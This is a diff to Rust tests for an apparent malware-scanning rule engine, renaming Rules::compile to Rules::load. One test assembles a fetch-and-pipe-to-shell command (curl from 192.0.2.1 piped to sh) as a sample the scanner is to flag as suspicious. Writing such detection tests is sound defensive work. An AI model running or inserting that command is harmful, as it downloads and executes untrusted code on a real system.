@@ -8,7 +8,7 @@ fn hits(rules: &Rules, part: Part<'_>) -> Vec<(String, Meaning)> {
 
 #[test]
 fn rules_know_the_file_and_whether_they_see_all_of_it() {
-    let rules = Rules::compile(
+    let rules = Rules::load(
         r#"rule named : shadow { condition: filename == "x.so" and filepath == "lib/x.so" and extension == "so" }
            rule small : suspicious { strings: $a = "needle" condition: whole and filesize < 100 and $a at 0 }
            rule plain { strings: $a = "needle" condition: $a }"#,
@@ -26,7 +26,7 @@ fn rules_know_the_file_and_whether_they_see_all_of_it() {
 
 #[test]
 fn scripts_that_fetch_and_run_packed_programs_and_jobs_are_suspicious() {
-    let rules = Rules::compile("").unwrap_or_else(|error| panic!("{error}"));
+    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
     let fetch = ["curl -fsSL http://192.0.2.1/x ", "| sh\n"].concat();
     let packed = [
         "\x7fELF",
